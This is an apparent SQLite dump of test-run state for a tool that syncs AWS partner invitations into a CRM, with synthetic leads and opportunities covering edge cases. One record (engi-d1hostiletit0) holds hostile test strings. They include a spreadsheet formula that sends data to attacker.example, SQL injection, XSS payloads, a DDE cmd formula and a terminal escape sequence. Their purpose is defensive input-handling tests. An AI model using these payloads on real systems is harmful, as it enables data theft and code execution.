INSERT INTO "invitations" VALUES('engi-f3noscheme010','PENDING','39080c7f852209f7acf1e0da2bd5e3f1','39080c7f852209f7acf1e0da2bd5e3f1','ee78e4c8fa914de11110957bd6f57386','created','','{"lead":["leads","led_45a3ff32d924053a"]}',1);
CREATE TABLE jobs (
	id TEXT NOT NULL, 
	object TEXT NOT NULL, 
	run_id INTEGER NOT NULL, 
	PRIMARY KEY (id)
);
CREATE TABLE journal (
	id INTEGER NOT NULL, 
	run_id INTEGER NOT NULL, 
	entries TEXT NOT NULL, 
	PRIMARY KEY (id)
);
CREATE TABLE ledger_version (
	version_num VARCHAR(32) NOT NULL, 
	PRIMARY KEY (version_num)
);
INSERT INTO "ledger_version" VALUES('0004');
CREATE TABLE outcomes (
	run_id INTEGER NOT NULL, 
	invitation_id TEXT NOT NULL, 
	outcome TEXT NOT NULL, 
	reason TEXT NOT NULL, 
	warnings TEXT NOT NULL, 
	PRIMARY KEY (run_id, invitation_id)
);
INSERT INTO "outcomes" VALUES(1,'engi-e4emptyamoun0','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-e3thirtyonedi','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-g1emailonly10','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-n1norway00001','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-h1cuttitle010','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-k1expired0010','skipped','the CRM has none in leads to update; the CRM has none in opportunities to update','[]');
INSERT INTO "outcomes" VALUES(1,'engi-h2expires2030','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-d1hostiletit0','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-p1leadpendin0','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-q1leadaccept0','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-q2leadreject0','skipped','the CRM has none in leads to update; the CRM has none in opportunities to update','[]');
INSERT INTO "outcomes" VALUES(1,'engi-q3leadexpire0','skipped','the CRM has none in leads to update; the CRM has none in opportunities to update','[]');
INSERT INTO "outcomes" VALUES(1,'engi-q4leadminima0','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-e5nospend0010','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-f1nulleveryw0','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-a2warehouse10','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-a1coldchain01','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-m1nopayload10','skipped','no rule''s `when` holds for it','[]');
INSERT INTO "outcomes" VALUES(1,'engi-m2newpayload0','skipped','no rule''s `when` holds for it','[]');
INSERT INTO "outcomes" VALUES(1,'engi-e2frequencie0','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-k2rejected010','skipped','the CRM has none in leads to update; the CRM has none in opportunities to update','[]');
INSERT INTO "outcomes" VALUES(1,'engi-a3clickncoll0','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-b2dataplatf20','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-b1dataplatf10','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-e1currencies0','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-d2otherscrip0','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-c1longtitle10','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-c2longtitle20','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-p2unknownmem0','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-f2websitenul0','created','','[]');
INSERT INTO "outcomes" VALUES(1,'engi-f3noscheme010','created','','[]');
CREATE TABLE reads (
	minute INTEGER NOT NULL, 
	count INTEGER NOT NULL, 
	PRIMARY KEY (minute)
);
CREATE TABLE reviews (
	id INTEGER NOT NULL, 
	invitation_id TEXT NOT NULL, 
	name TEXT NOT NULL, 
	object TEXT NOT NULL, 
	title TEXT NOT NULL, 
	reason TEXT NOT NULL, 
	candidates TEXT NOT NULL, 
	run_id INTEGER NOT NULL, 
	action TEXT, 
	record_id TEXT, 
	PRIMARY KEY (id), 
	UNIQUE (invitation_id, name)
);
CREATE TABLE runs (
	id INTEGER NOT NULL, 
	command TEXT NOT NULL, 
	started_at TEXT NOT NULL, 
	finished_at TEXT, 
	state TEXT NOT NULL, 
	counts TEXT NOT NULL, 
	calls TEXT NOT NULL, 
	waits TEXT, 
	complete BOOLEAN, 
	note TEXT NOT NULL, 
	PRIMARY KEY (id)
);
INSERT INTO "runs" VALUES(1,'sync','2026-11-29T10:11:44.435736+00:00','2026-11-29T10:11:44.837090+00:00','done','{"created":25,"skipped":6}','{"partnercentral-selling":{},"sql":{"find":5,"find_titles":2,"write":5,"create":62}}','{}',1,'');
CREATE TABLE written (
	object TEXT NOT NULL, 
	"key" TEXT NOT NULL, 
	record_id TEXT NOT NULL, 
	fields TEXT NOT NULL, 
	created_run INTEGER, 
	PRIMARY KEY (object, "key")
);
INSERT INTO "written" VALUES('leads','engi-e4emptyamoun0','led_d284fc23aa59380a','{"company":"Pigeon Parcels","website":"https://pigeonparcels.example","industry":"Transportation and Logistics","country_code":"CA","country":"Canada","status":"New","project_title":"Call center assistant","description":"Half of all calls ask where a parcel is. An assistant should answer these.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline.","currency":"USD","close_date":"2026-07-01"}',1);
INSERT INTO "written" VALUES('accounts','large-numbers.example','acc_231ad6f3194a35e4','{}',1);
INSERT INTO "written" VALUES('opportunities','engi-e3thirtyonedi','opp_e86cecde11776675','{"name":"National statistics archive","account_id":"acc_231ad6f3194a35e4","amount":"14814814681481481468148148146814.76","monthly_spend":"1234567890123456789012345678901.23","currency":"USD","close_date":"2030-01-01","industry":"Government","description":"An amount as large as the service takes. Whoever reads it as a floating point number loses its end.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline."}',1);
INSERT INTO "written" VALUES('contacts','ines.okafor@aws.example','con_0a50701c30846d63','{}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-e3thirtyonedi/ines.okafor@aws.example','ocr_d9d2fa4682041437','{"opportunity_id":"opp_e86cecde11776675","contact_id":"con_0a50701c30846d63"}',1);
INSERT INTO "written" VALUES('accounts','meridian-tooling.example','acc_acf3ad8e729d3c71','{}',1);
INSERT INTO "written" VALUES('opportunities','engi-g1emailonly10','opp_d1dc36b1a155a5e8','{"name":"Virtual desktops","account_id":"acc_acf3ad8e729d3c71","amount":"26400.00","monthly_spend":"2200.00","currency":"USD","close_date":"2026-09-30","industry":"Manufacturing","description":"Engineers carry two laptops each, one of them for the customer''s network only.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline."}',1);
INSERT INTO "written" VALUES('contacts','noor.el-amin@aws.example','con_b63f8a4c626443e0','{}',1);
INSERT INTO "written" VALUES('contacts','alliances@aws.example','con_9ffd46e27c216cd7','{}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-g1emailonly10/noor.el-amin@aws.example','ocr_a635d17c96f29990','{"opportunity_id":"opp_d1dc36b1a155a5e8","contact_id":"con_b63f8a4c626443e0"}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-g1emailonly10/alliances@aws.example','ocr_c0e9b562668c0faf','{"opportunity_id":"opp_d1dc36b1a155a5e8","contact_id":"con_9ffd46e27c216cd7"}',1);
INSERT INTO "written" VALUES('accounts','fjordlaks.example','acc_6da94667d9d8595f','{}',1);
INSERT INTO "written" VALUES('opportunities','engi-n1norway00001','opp_2d2e308e2b711986','{"name":"Fish farm cameras","account_id":"acc_6da94667d9d8595f","amount":"11160.00","monthly_spend":"930.00","currency":"USD","close_date":"2027-04-01","industry":"Agriculture","description":"Sick fish are found by divers, days too late. Cameras in the nets and a model should find them on the first day.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline."}',1);
INSERT INTO "written" VALUES('contacts','sigrid.aune@aws.example','con_5aada23fb7fa7972','{}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-n1norway00001/sigrid.aune@aws.example','ocr_05f5548bf12eea6f','{"opportunity_id":"opp_2d2e308e2b711986","contact_id":"con_5aada23fb7fa7972"}',1);
INSERT INTO "written" VALUES('accounts','cutter.example','acc_4818ec10e202d1e9','{}',1);
INSERT INTO "written" VALUES('opportunities','engi-h1cuttitle010','opp_9916b503bb75c660','{"name":"Partner Project Title - this field is not cut here, only in the engagement","account_id":"acc_4818ec10e202d1e9","amount":"9600.00","monthly_spend":"800.00","currency":"USD","close_date":"2026-12-15","industry":"Wholesale and Distribution","description":"Whoever matches by EngagementTitle takes all projects that begin alike for one.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline."}',1);
INSERT INTO "written" VALUES('contacts','tomas.lindqvist@aws.example','con_e0be3c14d2b6e9f2','{}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-h1cuttitle010/tomas.lindqvist@aws.example','ocr_d781a48c54a31a09','{"opportunity_id":"opp_9916b503bb75c660","contact_id":"con_e0be3c14d2b6e9f2"}',1);
INSERT INTO "written" VALUES('leads','engi-h2expires2030','led_a8678ae25353e7d0','{"company":"State of Example, Department of Records","website":"https://records.state.example","industry":"Government","country_code":"US","country":"United States","status":"New","project_title":"Ten year framework","description":"A framework contract for all agencies of the state, to be filled over ten years.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline.","amount":"144000.00","currency":"USD","close_date":"2036-12-31"}',1);
INSERT INTO "written" VALUES('accounts','obrien-sons.example','acc_f9310df5b890f82b','{}',1);
INSERT INTO "written" VALUES('opportunities','engi-d1hostiletit0','opp_fbb0db5b6a678c5b','{"name":"=HYPERLINK(\"http://attacker.example/?\"&A1,\"Robert''); DROP TABLE opportunities;--\")\r\n<script>alert(''title'')</script> {{ I","account_id":"acc_f9310df5b890f82b","amount":"36000.00","monthly_spend":"3000.00","currency":"USD","close_date":"2026-10-01","industry":"Professional Services","description":"'' OR Id != '''' ORDER BY Amount DESC LIMIT 1 -- and a backslash \\ at the end of a line \\\nas text, all of it.\n\n@SUM(1+1)*cmd|'' /C calc''!A0\n<img src=x onerror=alert(1)>\n\u001b]0;owned\u0007 and \"quotes\" and ''more''"}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-d1hostiletit0/ines.okafor@aws.example','ocr_f9a92098ea77e817','{"opportunity_id":"opp_fbb0db5b6a678c5b","contact_id":"con_0a50701c30846d63"}',1);
INSERT INTO "written" VALUES('leads','engi-p1leadpendin0','led_7654bd6c0831e845','{"company":"Wren & Gable Architects","website":"https://wrengable.example","industry":"Professional Services","country_code":"US","country":"United States","segment":"Small","aws_maturity":"Evaluating","title":"Head of IT","status":"New","source_name":"Analytics spring campaign 2026","use_case":"Analytics","description":"Lead from a recent campaign\n\nWe have a qualified lead that matches your expertise. Would you like to collaborate?"}',1);
INSERT INTO "written" VALUES('leads','engi-q1leadaccept0','led_30d53ac01dc5e377','{"company":"Perch Analytics","website":"https://perch.example","industry":"Software and Internet","country_code":"SE","country":"Sweden","segment":"Medium","aws_maturity":"Established","title":"CTO","status":"Accepted","source_name":"Migration roundtable","use_case":"Migration","description":"We have a qualified lead that matches your expertise. Would you like to collaborate?"}',1);
INSERT INTO "written" VALUES('leads','engi-q4leadminima0','led_1bcad086fb6a7821','{"company":"Only A Name Inc","title":"Owner","status":"New"}',1);
INSERT INTO "written" VALUES('accounts','alderfinch.example','acc_5dd118756296612a','{}',1);
INSERT INTO "written" VALUES('opportunities','engi-e5nospend0010','opp_a9bafebe0dd9dcde','{"name":"Backup for the branch offices","account_id":"acc_5dd118756296612a","close_date":"2026-06-30","industry":"Real Estate and Construction","description":"Branch offices back up to tapes that nobody has ever read back.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline."}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-e5nospend0010/ines.okafor@aws.example','ocr_a589f16a4ae11002','{"opportunity_id":"opp_a9bafebe0dd9dcde","contact_id":"con_0a50701c30846d63"}',1);
INSERT INTO "written" VALUES('accounts','engi-f1nulleveryw0','acc_8d6d3e8d7bc97c6c','{}',1);
INSERT INTO "written" VALUES('opportunities','engi-f1nulleveryw0','opp_a9b2ee851c096f43','{"name":"AWS invitation engi-f1nulleveryw0","account_id":"acc_8d6d3e8d7bc97c6c"}',1);
INSERT INTO "written" VALUES('accounts','lumenoutdoor.example','acc_dad3563bb219da42','{}',1);
INSERT INTO "written" VALUES('opportunities','engi-a2warehouse10','opp_79f5bef9da61eeab','{"name":"Warehouse forecasting","account_id":"acc_dad3563bb219da42","amount":"150000.00","monthly_spend":"12500.00","currency":"USD","close_date":"2026-09-15","industry":"Retail","description":"Stock is ordered by rule of thumb, and one order in six comes too late. Forecasts from sales data are wanted.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline."}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-a2warehouse10/ines.okafor@aws.example','ocr_b86778c5299a3d7a','{"opportunity_id":"opp_79f5bef9da61eeab","contact_id":"con_0a50701c30846d63"}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-a2warehouse10/tomas.lindqvist@aws.example','ocr_0d4ecb37879151df','{"opportunity_id":"opp_79f5bef9da61eeab","contact_id":"con_e0be3c14d2b6e9f2"}',1);
INSERT INTO "written" VALUES('leads','engi-a1coldchain01','led_97b6fc1669469d80','{"company":"Harbor & Vale Foods","website":"https://www.harborvale.example","industry":"Retail","country_code":"US","country":"United States","status":"New","project_title":"Cold chain telemetry","description":"Spoiled goods are found on delivery only. Temperatures must be watched while the trucks drive.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline.","amount":"50400.00","currency":"USD","close_date":"2026-11-30"}',1);
INSERT INTO "written" VALUES('leads','engi-e2frequencie0','led_88b790b27170d64e','{"company":"Fennel Street Clinics","website":"https://www.fennelclinics.example","industry":"Healthcare","country_code":"NL","country":"Netherlands","status":"New","project_title":"Invoice archive","description":"Ten years of invoices must be kept, found within a minute, and deleted in time.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline.","amount":"12192.00","currency":"USD","close_date":"2026-08-31"}',1);
INSERT INTO "written" VALUES('opportunities','engi-a3clickncoll0','opp_05fab7ccf4d2f0e1','{"name":"Click and collect","account_id":"acc_dad3563bb219da42","amount":"21600.00","monthly_spend":"1800.00","currency":"USD","close_date":"2027-01-31","industry":"Retail","description":"Customers want to order online and collect in the shop on the same day; the tills know nothing of the web shop.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline."}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-a3clickncoll0/tomas.lindqvist@aws.example','ocr_a315c8cd61829e85','{"opportunity_id":"opp_05fab7ccf4d2f0e1","contact_id":"con_e0be3c14d2b6e9f2"}',1);
INSERT INTO "written" VALUES('accounts','tallis-biologics.example','acc_5ddcedf16d843722','{}',1);
INSERT INTO "written" VALUES('opportunities','engi-b2dataplatf20','opp_c9eb9cee8c9c55ad','{"name":"Data platform","account_id":"acc_5ddcedf16d843722","amount":"109200.00","monthly_spend":"9100.00","currency":"USD","close_date":"2026-12-01","industry":"Life Sciences","description":"Research data lies on laboratory computers. It should be in one place, with access by project.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline."}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-b2dataplatf20/tomas.lindqvist@aws.example','ocr_971cbc4d6908ee48','{"opportunity_id":"opp_c9eb9cee8c9c55ad","contact_id":"con_e0be3c14d2b6e9f2"}',1);
INSERT INTO "written" VALUES('accounts','quayside.example','acc_9dd98b56fe36a7a7','{}',1);
INSERT INTO "written" VALUES('opportunities','engi-b1dataplatf10','opp_c637eb12336922e5','{"name":"Data platform","account_id":"acc_9dd98b56fe36a7a7","amount":"90000.00","monthly_spend":"7500.00","currency":"USD","close_date":"2026-12-01","industry":"Financial Services","description":"Reports are made by hand from nine systems, and no two of them agree on last month''s revenue.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline."}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-b1dataplatf10/ines.okafor@aws.example','ocr_1f251254ca1c0394','{"opportunity_id":"opp_c637eb12336922e5","contact_id":"con_0a50701c30846d63"}',1);
INSERT INTO "written" VALUES('accounts','saltmarsh.example','acc_5193dd250fbdaa58','{}',1);
INSERT INTO "written" VALUES('opportunities','engi-e1currencies0','opp_daf5ce0de1c2fbff','{"name":"One storefront for four markets","account_id":"acc_5193dd250fbdaa58","amount":"57607.62","monthly_spend":"4800.64","currency":"USD","close_date":"2026-12-31","industry":"Consumer Goods","description":"Four shops in four countries are run by four agencies, and every price is kept in each of them.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline."}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-e1currencies0/ines.okafor@aws.example','ocr_9e3b2d6ac6fb1d8c','{"opportunity_id":"opp_daf5ce0de1c2fbff","contact_id":"con_0a50701c30846d63"}',1);
INSERT INTO "written" VALUES('accounts','minato-logistics.example','acc_e295dbc3f2d9083f','{}',1);
INSERT INTO "written" VALUES('opportunities','engi-d2otherscrip0','opp_6af1a88449972aa2','{"name":"مشروع ترحيل مركز البيانات 🚀 ‮ABC‬ データ基盤 Größe ﬁnal №5","account_id":"acc_e295dbc3f2d9083f","amount":"402000.00","monthly_spend":"33500.00","currency":"USD","close_date":"2027-03-01","industry":"Transportation and Logistics","description":"データセンターを閉鎖し、すべてのシステムをクラウドへ移行します。期限は来年の三月です。\n\nご検討をお願いいたします。 شكرا جزيلا 🙏"}',1);
INSERT INTO "written" VALUES('contacts','haruka.ono@aws.example','con_9803b8d40e328e7d','{}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-d2otherscrip0/haruka.ono@aws.example','ocr_8389f9aa28e85f5c','{"opportunity_id":"opp_6af1a88449972aa2","contact_id":"con_9803b8d40e328e7d"}',1);
INSERT INTO "written" VALUES('accounts','brandt-maschinenbau.example','acc_86a74a2c63ada32d','{}',1);
INSERT INTO "written" VALUES('opportunities','engi-c1longtitle10','opp_e3e95c3c2f179931','{"name":"Migration of the enterprise resource planning system of all European subsidiaries to the cloud, in phases by country and","account_id":"acc_86a74a2c63ada32d","amount":"1075680.00","monthly_spend":"89640.00","currency":"USD","close_date":"2028-06-30","industry":"Manufacturing","description":"The present system is no longer maintained after next year, and every subsidiary has changed it in its own way.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline."}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-c1longtitle10/ines.okafor@aws.example','ocr_96d0041f9976132d','{"opportunity_id":"opp_e3e95c3c2f179931","contact_id":"con_0a50701c30846d63"}',1);
INSERT INTO "written" VALUES('opportunities','engi-c2longtitle20','opp_0e8a8ef67c3f269f','{"name":"Migration of the enterprise resource planning system of all European subsidiaries to the cloud, in phases by country and","account_id":"acc_86a74a2c63ada32d","amount":"77760.00","monthly_spend":"6480.00","currency":"USD","close_date":"2027-03-31","industry":"Manufacturing","description":"Payroll is outsourced today. It is to come back in house, and into the cloud at once.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline."}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-c2longtitle20/ines.okafor@aws.example','ocr_4ba8ff9222cdb9f2','{"opportunity_id":"opp_0e8a8ef67c3f269f","contact_id":"con_0a50701c30846d63"}',1);
INSERT INTO "written" VALUES('leads','engi-p2unknownmem0','led_608ed3ac6011b6f3','{"company":"Kestrel Robotics","website":"https://kestrel-robotics.example","industry":"Robotics and Drones","country_code":"KR","country":"South Korea","segment":"Unicorn","aws_maturity":"Optimizing","title":"Chief Scientist","status":"New","source_name":"Generative AI webinar","use_case":"Generative AI","description":"We have a qualified lead that matches your expertise. Would you like to collaborate?"}',1);
INSERT INTO "written" VALUES('accounts','gravel brothers','acc_9cc22d2b1284e9ae','{}',1);
INSERT INTO "written" VALUES('opportunities','engi-f2websitenul0','opp_72d693185cca6872','{"name":"Fleet tracking","account_id":"acc_9cc22d2b1284e9ae","amount":"15006.00","monthly_spend":"1250.50","currency":"USD","close_date":"2026-10-31","industry":"Real Estate and Construction","description":"Nobody knows where the excavators are, and two were rented that stood in the yard.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline."}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-f2websitenul0/ines.okafor@aws.example','ocr_3fe723d11da6cb21','{"opportunity_id":"opp_72d693185cca6872","contact_id":"con_0a50701c30846d63"}',1);
INSERT INTO "written" VALUES('leads','engi-f3noscheme010','led_45a3ff32d924053a','{"company":"Stagelight Events","website":"www.stagelight.example/tickets?ref=aws","industry":"Media and Entertainment","country_code":"US","country":"United States","status":"New","project_title":"Ticket shop for peak loads","description":"When a tour goes on sale the shop breaks down within a minute.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline.","amount":"67200.00","currency":"USD","close_date":"2026-05-31"}',1);
CREATE INDEX ix_decisions_invitation_id ON decisions (invitation_id);
CREATE INDEX ix_decisions_state ON decisions (state);
CREATE INDEX ix_history_invitation_id ON history (invitation_id);
COMMIT;
